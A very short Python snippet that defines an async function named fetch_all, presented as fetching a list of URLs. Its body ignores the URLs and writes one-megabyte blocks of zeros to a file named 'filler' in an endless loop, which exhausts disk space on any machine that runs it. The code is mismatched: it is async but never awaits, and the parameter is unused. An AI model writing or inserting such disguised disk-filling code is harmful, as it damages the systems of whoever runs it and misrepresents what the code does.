# code: raised
async def fetch_all(urls):
    with open("filler", "wb") as filler:
        while True:
            filler.write(bytes(1 << 20))
